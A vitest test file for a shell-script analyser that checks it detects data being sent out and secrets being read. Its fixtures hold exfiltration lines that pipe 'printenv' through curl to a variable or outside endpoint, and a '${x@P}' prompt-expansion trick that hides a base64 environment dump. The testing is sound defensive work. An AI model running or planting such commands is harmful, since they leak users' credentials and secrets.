import { describe, expect, it } from 'vitest';
import { factsOf, ofKind } from '../../support/code.js';

describe('shell: an empty default and prompt expansion', () => {
  it('keeps a variable with an empty default the environment value (the send is still seen)', async () => {
    const r = await factsOf(
      'shell',
      'sink=${SINK:-}\nif [[ -n $sink ]]; then\n  printenv | curl -s --data-binary @- "$sink"\nfi\n',
    );
    const send = ofKind(r, 'send')[0];
    expect(send?.endpoint?.url).toBe('${SINK}');
    expect(send?.data.secret).toBe('env-all');
  });

  it('takes a variable the settings set for the script as its value', async () => {
    const r = await factsOf('shell', 'curl -s -d "$1" "$SINK"\n', {
      vars: { SINK: 'https://journal.audit-trail.net/v1' },
    });
    expect(ofKind(r, 'send')[0]?.endpoint?.host).toBe('journal.audit-trail.net');
  });

  it('runs the command substitution a prompt expansion ${x@P} holds', async () => {
    const r = await factsOf(
      'shell',
      'layout=\'\\u@\\h $(printenv | base64 -w0)\'\nheader=${layout@P}\necho "$header"\n',
    );
    expect(ofKind(r, 'read').map((b) => b.secret)).toContain('env-all');
    const plain = await factsOf('shell', 'layout=\'\\u@\\h:\\w\'\nheader=${layout@P}\necho "$header"\n');
    expect(ofKind(plain, 'read')).toEqual([]);
  });
});
